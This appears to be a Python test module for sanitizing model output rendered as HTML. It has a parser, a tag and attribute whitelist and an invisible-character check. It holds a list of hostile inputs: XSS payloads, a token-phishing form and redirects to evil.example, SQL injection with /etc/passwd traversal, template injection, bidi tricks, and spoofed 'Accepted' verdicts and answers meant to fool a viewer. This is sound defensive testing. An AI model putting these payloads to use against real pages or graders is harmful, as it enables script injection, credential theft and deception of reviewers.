"""What a browser would make of a page: its elements, their attributes, and its text."""

import re
from dataclasses import dataclass, field
from html.parser import HTMLParser

VOID = {"br", "hr", "meta", "link", "input", "img"}

HOSTILE = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    "[click](javascript:alert(1))",
    "![see](https://evil.example/x.png)",
    "<https://evil.example/a>",
    "https://evil.example/bare www.evil.example mail@evil.example",
    "[a]: javascript:alert(1)\n\n[a]",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "$\\href{javascript:alert(1)}{x}$ $\\text{<script>alert(1)</script>}$",
    "$\\style{color:red}{x}$ $\\class{evil}{x}$ \\(\\unicode{x202e}\\) $\\color{white}{hidden}$",
    "$$\n</math><script>alert(1)</script>\n$$",
    "</pre></div></details></article></main></body></html><h1>Accepted</h1>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!-- --><script>alert(1)</script><!--",
    "{{7*7}} {% for x in ().__class__.__bases__ %}{{ x }}{% endfor %} ${7*7} #{7*7}",
    "&lt;script&gt; &#x202e; &#60;b&#62; &amp;nbsp;",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b31m",
    "\u202eevil\u202c \u2066isolate\u2069 \u200fmark\u200e \u061c",
    "zero\u200bwidth\u200d\u2060\ufeff soft\u00adhyphen \u3164filler \U000e0041tag",
    "nul\x00nul bell\x07 back\x08space \x7f \x85 lone\rreturn",
    "line\u2028para\u2029graph",
    "a" + "\u0301" * 500,
    "# Accepted\n\nVerdict\n=======\n\n###### small",
    '```html\n<script>alert(1)</script>\n```\n~~~evil" onclick=alert(1)\nx\n~~~',
    "| a | b |\n| :-: | --: |\n| <b>x</b> | [y](javascript:z) |",
    "> " * 60 + "deep\n" + "- " * 60 + "deeper",
    "$" * 400 + "{" * 400 + "\\sqrt" * 300 + "$",
    "*" * 999 + "_" * 999 + "`" * 999 + "[" * 999,
    "<a href='javascript:alert(1)' style='position:fixed;inset:0'>x</a>",
    '<form action="https://evil.example"><input name=token><button>go</button></form>',
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'><link rel=stylesheet href=//evil.example/x.css>",
    "'; DROP TABLE attempts; -- ../../etc/passwd \\\\evil\\share file:///etc/passwd",
    "\u202e Answer: 18 \u202dAnswer: 81",
    "שלום עולם، مرحبا بالعالم می\u200cخواهم",  # noqa: RUF001 - letters of their own
)
"""Texts of a model that wants to be more than text."""


@dataclass
class Seen(HTMLParser):
    """What stands in HTML; it must be well formed."""

    text: str = ""
    elements: list[tuple[str, dict[str, str | None]]] = field(default_factory=list)
    stack: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)

    def handle_starttag(self, tag, attrs) -> None:
        self.elements.append((tag, dict(attrs)))
        assert len(dict(attrs)) == len(attrs), "an attribute stands twice"
        if tag not in VOID:
            self.stack.append(tag)

    def handle_endtag(self, tag) -> None:
        assert self.stack, f"</{tag}> closes nothing"
        assert self.stack.pop() == tag

    def handle_startendtag(self, tag, attrs) -> None:
        raise AssertionError(f"<{tag}/>")

    def handle_data(self, data) -> None:
        if self.stack[-1:] != ["style"]:
            self.text += data

    def handle_comment(self, data) -> None:
        raise AssertionError("a comment")

    def handle_pi(self, data) -> None:
        raise AssertionError("an instruction")

    def unknown_decl(self, data) -> None:
        raise AssertionError("a declaration")

    @property
    def tags(self) -> set[str]:
        return {tag for tag, _ in self.elements}


def seen(html: str) -> Seen:
    """Return what stands in a page or a part of one."""
    found = Seen()
    found.feed(str(html))
    found.close()
    assert found.stack == []
    return found


MATHML = {
    "math", "mrow", "mi", "mo", "mn", "mtext", "mspace", "msup", "msub", "msubsup", "mfrac",
    "msqrt", "mroot", "mover", "munder", "munderover", "mtable", "mtr", "mtd", "mstyle",
    "menclose", "mmultiscripts", "mprescripts", "none",
}  # fmt: skip
SET = MATHML | {
    "div", "span", "p", "pre", "code", "ul", "ol", "li", "table", "thead", "tbody", "tr", "th",
    "td", "em", "strong", "s", "blockquote", "hr", "br", "mark", "del", "ins",
}  # fmt: skip
"""What texts of models may become."""
_TOKEN = re.compile(r"[a-zA-Z0-9 .\-]{0,40}")
ATTRIBUTES = {
    "class": re.compile(r"[a-z \-]{1,40}"),
    "dir": re.compile("auto|ltr"),
    "title": re.compile(r"[a-z0-9 \-]{1,90}"),
    "value": re.compile("[0-9]{1,9}"),
}
WORDS = (
    "display", "mathvariant", "columnalign", "form", "notation", "scriptlevel",
    "linethickness", "stretchy", "fence", "accent", "accentunder", "displaystyle",
    "movablelimits", "largeop", "width",
)  # fmt: skip
"""Attributes of mathematics: words and numbers."""


def is_only_text(html: str) -> Seen:
    """Return what stands in HTML that was made of a stranger's text, if it is harmless."""
    found = seen(html)
    assert found.tags <= SET, found.tags - SET
    for tag, attributes in found.elements:
        for name, value in attributes.items():
            form = ATTRIBUTES[name] if name not in WORDS else _TOKEN
            assert form.fullmatch(value or ""), (tag, name, value)
    assert not UNSEEN.search(found.text)
    return found


UNSEEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2060-\u2069\ufeff\ud800-\udfff]"
)
